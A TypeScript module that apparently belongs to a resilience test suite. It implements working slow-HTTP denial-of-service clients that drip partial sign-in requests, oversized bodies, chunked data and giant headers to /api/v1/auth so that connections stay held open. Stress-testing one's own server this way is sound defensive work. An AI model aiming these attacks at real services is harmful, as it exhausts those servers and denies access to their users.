import { connect } from 'node:net';
import type { Attack, Target } from './flood-options.ts';

/** The head of a sign-in, without its end. */
function headOf({ forwardedFor }: Target): string {
  const from = forwardedFor === undefined ? '' : `x-forwarded-for: ${forwardedFor}\r\n`;
  return `POST /api/v1/auth HTTP/1.1\r\nhost: x\r\nuser-agent: x\r\ncontent-type: application/json\r\n${from}`;
}

/** Sends the first text, then `next` once a second. */
function drip(first: (target: Target) => string, next: string): Attack {
  return (target) => {
    const socket = connect(target, () => socket.write(first(target)));
    socket.on('error', () => undefined).resume();
    const dripping = setInterval(() => socket.writable && socket.write(next), 1_000);
    const closed = new Promise((resolve) => socket.once('close', resolve)).finally(() => clearInterval(dripping));
    return { closed, [Symbol.dispose]: () => void socket.destroy() };
  };
}

/** Slow bodies of anonymous clients, as a proxy without request buffering forwards them. */
export const proxiedHttpAttacks: readonly Attack[] = [
  drip((target) => `${headOf(target)}content-length: 16384\r\n\r\n${' '.repeat(16_000)}`, ' '),
  drip((target) => `${headOf(target)}content-length: 2000000\r\n\r\n${' '.repeat(64_000)}`, ' '.repeat(4_000)),
  drip(
    (target) => `${headOf(target)}transfer-encoding: chunked\r\n\r\n3e80\r\n${' '.repeat(16_000)}\r\n`,
    '1\r\n \r\n',
  ),
];

/** Anonymous clients that hold as many resources of core for as long as possible. */
export const httpAttacks: readonly Attack[] = [
  ...proxiedHttpAttacks,
  drip(() => `GET / HTTP/1.1\r\nhost: x\r\nx: ${'x'.repeat(15_000)}`, 'x'),
  drip(() => '', ''),
];
